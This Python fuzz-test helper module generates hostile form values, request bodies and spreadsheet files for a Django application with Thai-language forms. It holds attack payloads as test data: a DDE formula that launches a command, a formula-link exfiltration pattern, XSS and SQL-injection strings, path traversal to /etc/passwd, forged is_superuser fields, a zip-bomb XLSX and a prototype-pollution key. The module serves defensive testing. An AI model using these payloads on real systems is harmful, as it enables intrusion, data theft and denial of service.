"""What the fuzz tests send: hostile field values, hostile files, and the request bodies that carry them.

Values are ``str`` or ``bytes``. Bodies are encoded by hand (not by Django's test client) so that a value
may be bytes that are not UTF-8 at all, or a lone surrogate encoded the way broken software does
(``"\\ud800"`` as the three bytes ``ED A0 80``): what a real client can put on the wire.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

MISSING = object()
"""A field left out of the post."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
)
THAI_NUMBERS = ("๑๒๓", "๑,๒๐๐.๕๐", "๒๕๖๗", "๐", "-๕", "๑๒/๑๒/๒๕๖๗")
NUMBERS = (
    "1,200", "1,2,3", "1 200", "1e5", "1e400", "-1e-400", "NaN", "-Infinity", "-0", "0x10", "1_000", " 12 ",
    "-1", "12.345678901234567890", "99999999999999999999999999999", ".", "1.2.3", "١٢٣", "１２３", "½",
)  # fmt: skip
DATES = (
    "31/02/2567", "29/02/2566", "00/00/0000", "1/1/99999", "2024-01-01", "๑/๑/๒๕๖๗", "01/01/0001",
    "32/13/2567", "1/1/-5", "31/12/9999", "1/1/2567/1", "//",
)  # fmt: skip
ODD_TEXT = (
    "\x00", "a\x00b", "\ufeff", "\u202eกขค", "\u200b", "<script>alert(1)</script>", "' OR 1=1 --", "%00",
    "../../etc/passwd", "\n\r\t", "   ", "NULL", "None", "[]", "{}", "true", "on", "ก\u0e49\u0e49\u0e49",
)  # fmt: skip
LONG = ("x" * 100_000, "ก" * 100_000, "=" + "1+" * 50_000 + "1")
RAW_BYTES = (b"\xff\xfe", b"\xed\xa0\x80", b"\xc0\x80", b"\x80abc", b"\xe0\xb8", "สมชาย".encode("cp874"))
SURROGATES = ("\ud800", "x\udfffy", "\udbff\udc00")

EXTRA_NAMES = (
    "id", "pk", "is_superuser", "role", "unit", "actor", "created_by", "status", "person", "action",
    "csrfmiddlewaretoken", "next", "form-TOTAL_FORMS", "__proto__", "x" * 300, "ชื่อ", "a[b]", "\x00",
)  # fmt: skip

texts = st.text(max_size=40)
any_characters = st.text(
    st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=()), max_size=20
)
scalar = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(THAI_NUMBERS + NUMBERS),
    st.sampled_from(DATES),
    st.sampled_from(ODD_TEXT),
    st.sampled_from(SURROGATES),
    st.sampled_from(RAW_BYTES),
    texts,
    any_characters,
    st.binary(max_size=24),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
hostile = st.one_of(
    scalar,
    st.sampled_from(LONG),
    st.lists(scalar, min_size=2, max_size=3),  # one field sent many times: a list where one value is due
)


@dataclass(frozen=True)
class Spoil:
    """How a valid post is spoilt: ``every`` field set to one value (``MISSING``: an empty post), or every
    field set to the values of ``cycle`` in turn, or the ``fields`` picked by number (counted round the
    form's sorted field names) set to a value or left out; plus ``extra`` fields the form does not know.
    Kept apart from any form, so that Hypothesis can shrink it and a test can name fixed examples."""

    every: Any = None
    fields: tuple[tuple[int, Any], ...] = ()
    extra: tuple[tuple[Any, Any], ...] = ()
    cycle: tuple[Any, ...] = ()

    def apply(self, valid: Mapping[str, Any]) -> dict[str, Any]:
        names = sorted(valid)
        data = dict.fromkeys(names, self.every) if self.every is not None else dict(valid)
        if self.cycle:
            data = {name: self.cycle[i % len(self.cycle)] for i, name in enumerate(names)}
        for index, value in self.fields:
            if names:
                data[names[index % len(names)]] = value
        data.update(self.extra)
        return {k: v for k, v in data.items() if v is not MISSING}

    def __repr__(self) -> str:
        def short(value: Any) -> str:
            if value is MISSING:
                return "MISSING"
            text = repr(value)
            return text if len(text) < 80 else f"{text[:60]}…({len(value)} long)"

        parts = [f"every={short(self.every)}"] if self.every is not None else []
        parts += [f"cycle=({', '.join(short(v) for v in self.cycle)})"] if self.cycle else []
        parts += [f"field#{i}={short(v)}" for i, v in self.fields]
        parts += [f"extra {short(k)}={short(v)}" for k, v in self.extra]
        return f"Spoil({', '.join(parts)})"


def spoils(values: st.SearchStrategy[Any] = hostile) -> st.SearchStrategy[Spoil]:
    """Most spoils change one to three fields and keep the rest valid, so a post gets past the fields it
    did not touch and reaches the service; one in ten puts the same hostile value in every field."""
    picks = st.lists(st.tuples(st.integers(0, 63), st.one_of(values, st.just(MISSING))), max_size=3)
    extra = st.lists(st.tuples(st.one_of(st.sampled_from(EXTRA_NAMES), texts), values), max_size=2)
    return st.builds(
        Spoil,
        every=st.one_of(st.none(), st.none(), st.none(), values),
        fields=picks.map(tuple),
        extra=extra.map(tuple),
    )


FIXED_SPOILS = (
    Spoil(every=MISSING),  # an empty post
    # What breaks decoding: NUL, a lone surrogate (U+D800) as broken software encodes it, bytes that are
    # not UTF-8, two values where one is due.
    Spoil(cycle=("\x00", b"\xed\xa0\x80", b"\xff\xfe\x00", ("1", "2"))),
    Spoil(every="x" * 100_000),  # a 100,000-character text in every field
    # What a person or a spreadsheet types: formulas, Thai digits and thousands separators, a date that
    # does not exist, a long Thai text, a right-to-left override.
    Spoil(
        cycle=(
            "=cmd|' /C calc'!A0",
            "๑,๒๐๐.๕๐",
            "31/02/2567",
            "-2+3",
            "@SUM(1+1)",
            "1,200",
            "ก" * 100_000,
            "+1+1",
        )
    ),
    Spoil(extra=(("is_superuser", "on"), ("unit", "1"), ("x" * 300, "\u202e\x00"))),
)
"""Spoils every form gets first (fixed, so they always run), before the generated ones."""


def _bytes(value: Any) -> bytes:
    if isinstance(value, bytes):
        return value
    return str(value).encode("utf-8", "surrogatepass")


def pairs(data: Mapping[str, Any]) -> list[tuple[bytes, bytes]]:
    out: list[tuple[bytes, bytes]] = []
    for key, value in data.items():
        values: Sequence[Any] = value if isinstance(value, list | tuple) else [value]
        out.extend((_bytes(key), _bytes(v)) for v in values)
    return out


def urlencoded(data: Mapping[str, Any]) -> bytes:
    return "&".join(
        f"{quote_from_bytes(k, safe='')}={quote_from_bytes(v, safe='')}" for k, v in pairs(data)
    ).encode("ascii")


BOUNDARY = "fuzzBoundaryN0kr4b0b"


def multipart(data: Mapping[str, Any], files: Mapping[str, tuple[str, bytes]]) -> bytes:
    """A multipart body; ``files`` maps a field to ``(file name, content)``."""
    out = io.BytesIO()
    for name_bytes, value in pairs(data):
        out.write(f"--{BOUNDARY}\r\n".encode())
        out.write(b'Content-Disposition: form-data; name="' + name_bytes.replace(b'"', b"%22") + b'"\r\n\r\n')
        out.write(value + b"\r\n")
    for key, (name, content) in files.items():
        out.write(f"--{BOUNDARY}\r\n".encode())
        disposition = f'Content-Disposition: form-data; name="{key}"; filename="{name}"\r\n'
        out.write(disposition.encode("utf-8", "surrogatepass"))
        out.write(b"Content-Type: application/octet-stream\r\n\r\n")
        out.write(content + b"\r\n")
    out.write(f"--{BOUNDARY}--\r\n".encode())
    return out.getvalue()


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

# ── files ────────────────────────────────────────────────────────────────────────────────────────


def csv_bytes(rows: Sequence[Sequence[Any]], encoding: str = "utf-8") -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode(encoding, "replace")


def _cells(row: Sequence[Any]) -> list[Any]:
    """A row openpyxl will write: the control characters XML cannot carry are taken out (the files that
    carry them are made by other means)."""
    return [ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row]


def xlsx_bytes(
    rows: Sequence[Sequence[Any]], sheets: Mapping[str, Sequence[Sequence[Any]]] | None = None
) -> bytes:
    """A workbook: ``rows`` on the first sheet, then one sheet per entry of ``sheets`` (the first sheet is
    dropped when ``rows`` is empty and ``sheets`` is not)."""
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(_cells(row))
    if not rows and sheets:
        book.remove(sheet)
    for title, more in (sheets or {}).items():
        extra = book.create_sheet(title)
        for row in more:
            extra.append(_cells(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@cache
def bomb_xlsx(uncompressed_mb: int = 48) -> bytes:
    """A small XLSX whose shared-strings part expands to ``uncompressed_mb`` MB (one enormous cell)."""
    base = xlsx_bytes([["ชื่อ", "นามสกุล"], ["สมชาย", "ใจดี"]])
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        big = "A" * (uncompressed_mb * 1024 * 1024)
        target.writestr(
            "xl/sharedStrings.xml",
            '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>{big}</t></si></sst>',
        )
    return out.getvalue()


@cache
def big_cell_xlsx() -> bytes:
    """An XLSX (written by openpyxl, so a real one) whose one cell holds 40,000 Thai characters."""
    return xlsx_bytes([["ชื่อ", "นามสกุล", "หมายเหตุ"], ["สมชาย", "ใจดี", "ก" * 40_000]])


def xlsform_bytes(labels: Sequence[str]) -> bytes:
    """An XLSForm (``survey`` and ``choices`` sheets) whose questions and choices carry ``labels``."""
    survey = [["type", "name", "label"], *[["text", f"q{i}", label] for i, label in enumerate(labels)]]
    survey.append(["select_one yn", "yn", labels[0] if labels else "ตกลง"])
    choices = [
        ["list_name", "name", "label"],
        ["yn", "yes", labels[-1] if labels else "ใช่"],
        ["yn", "no", "ไม่"],
    ]
    return xlsx_bytes([], {"survey": survey, "choices": choices})


DEFAULT_HEADER = ("ชื่อ", "นามสกุล", "เลขประจำตัวประชาชน")


FILE_KINDS = (
    "random", "empty", "cp874", "utf16", "utf8bom", "truncated_xlsx", "bomb_xlsx", "big_cell_xlsx",
    "megabyte_cell_csv", "nul_csv", "xlsx_as_csv", "csv_as_xlsx", "formulas_xlsx", "formulas_csv",
)  # fmt: skip
FILE_NAMES = ("list.csv", "list.xlsx", "ข้อมูล.CSV", "a.pdf", "noext", "../../x.csv", "x.xlsx.exe", "a\x00.csv")
GOOD_ROWS = (("สมชาย", "ใจดี", "1101700123451"), ("สมหญิง", "๑,๒๐๐", "01/01/2530"))


def sample_file(
    kind: str,
    header: Sequence[str] = DEFAULT_HEADER,
    rows: Sequence[Sequence[Any]] = GOOD_ROWS,
    *,
    name: str = "list.bin",
    noise: bytes = b"\x00\xff\xfe\x8b",
    cut: float = 0.5,
) -> tuple[str, bytes]:
    """One hostile file of ``kind`` (``FILE_KINDS``) as ``(file name, content)``."""
    table = [list(header), *[list(r) for r in rows]]
    if kind == "random":
        return name, noise
    if kind == "empty":
        return name, b""
    if kind == "cp874":
        return "list.csv", csv_bytes(table, "cp874")
    if kind == "utf16":
        return "list.csv", csv_bytes(table, "utf-16")
    if kind == "utf8bom":
        return "list.csv", csv_bytes(table, "utf-8-sig")
    if kind == "truncated_xlsx":
        whole = xlsx_bytes(table)
        return "list.xlsx", whole[: int(len(whole) * cut)]
    if kind == "bomb_xlsx":
        return "list.xlsx", bomb_xlsx()
    if kind == "big_cell_xlsx":
        return "list.xlsx", big_cell_xlsx()
    if kind == "megabyte_cell_csv":
        return "list.csv", csv_bytes([list(header), ["ก" * (1024 * 1024 // 3), "ใจดี", "1"]])
    if kind == "nul_csv":
        return "list.csv", csv_bytes(table).replace(b",", b"\x00,", 2) + b"\x00\x00"
    if kind == "xlsx_as_csv":
        return "list.csv", xlsx_bytes(table)
    if kind == "csv_as_xlsx":
        return "list.xlsx", csv_bytes(table)
    if kind == "formulas_csv":
        return "list.csv", csv_bytes([list(header), *[[f] * len(header) for f in FORMULAS]])
    assert kind == "formulas_xlsx", kind
    return "list.xlsx", xlsx_bytes([list(header), *[[f] * len(header) for f in FORMULAS]])


@dataclass(frozen=True)
class FileRecipe:
    """A hostile file, made for an upload's own columns when it is sent (``build(header)``)."""

    kind: str
    rows: tuple[tuple[str, ...], ...] = GOOD_ROWS
    name: str = "list.bin"
    noise: bytes = b""
    cut: float = 0.5
    xlsform_labels: tuple[str, ...] = ()

    def build(self, header: Sequence[str]) -> tuple[str, bytes]:
        if self.kind == "xlsform":
            return "form.xlsx", xlsform_bytes(self.xlsform_labels)
        return sample_file(self.kind, header, self.rows, name=self.name, noise=self.noise, cut=self.cut)

    def __repr__(self) -> str:
        if self.kind == "xlsform":
            return f"FileRecipe(xlsform, labels={self.xlsform_labels!r})"
        detail = f"name={self.name!r}, noise={self.noise[:40]!r}" if self.kind in ("random", "empty") else ""
        return f"FileRecipe({self.kind}, rows={self.rows!r} {detail})"


cells = st.one_of(
    st.sampled_from(("สมชาย", "ใจดี", "๑๒๓", "1,200", "01/01/2530")), st.sampled_from(FORMULAS), texts
)
hostile_files = st.one_of(
    st.builds(
        FileRecipe,
        kind=st.sampled_from(FILE_KINDS),
        rows=st.lists(st.lists(cells, min_size=1, max_size=4).map(tuple), max_size=4).map(tuple),
        name=st.sampled_from(FILE_NAMES),
        noise=st.binary(max_size=2048),
        cut=st.floats(0, 0.99),
    ),
    st.builds(
        FileRecipe,
        kind=st.just("xlsform"),
        xlsform_labels=st.lists(st.one_of(st.sampled_from(FORMULAS), texts), min_size=1, max_size=4).map(
            tuple
        ),
    ),
)
"""Hostile files, and (for the XLSForm upload, harmless elsewhere) XLSForms whose labels are formulas."""


# ── JSON ─────────────────────────────────────────────────────────────────────────────────────────

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)


def _json_safe(value: Any) -> Any:
    if isinstance(value, bytes):
        return value.decode("latin-1")
    if isinstance(value, list):
        return [_json_safe(v) for v in value]
    return value


json_hostile = st.one_of(hostile.map(_json_safe), json_values)

RAW_JSON = (
    b"", b"{", b"\xff\xfe{}", b"[" * 100_000, b'{"a":' * 50_000, b"NaN", b'"\\ud800"', b"1e999999", b"null",
    b'{"first_name": "\\u0000"}', b"[]", b'{"__proto__": {"x": 1}}', b"\xef\xbb\xbf{}",
)  # fmt: skip


def json_bodies() -> st.SearchStrategy[Spoil | bytes]:
    """A spoilt JSON object (``Spoil`` of the valid body) or raw bytes that are not the JSON a client
    should send."""
    return st.one_of(
        spoils(json_hostile), spoils(json_hostile), st.sampled_from(RAW_JSON), st.binary(max_size=64)
    )


def with_examples(name: str, values: Sequence[Any]) -> Any:
    """Hypothesis ``@example``s of the argument ``name``, one per value (run before the generated ones)."""
    from hypothesis import example

    def decorate(test: Any) -> Any:
        for value in reversed(values):
            test = example(**{name: value})(test)
        return test

    return decorate
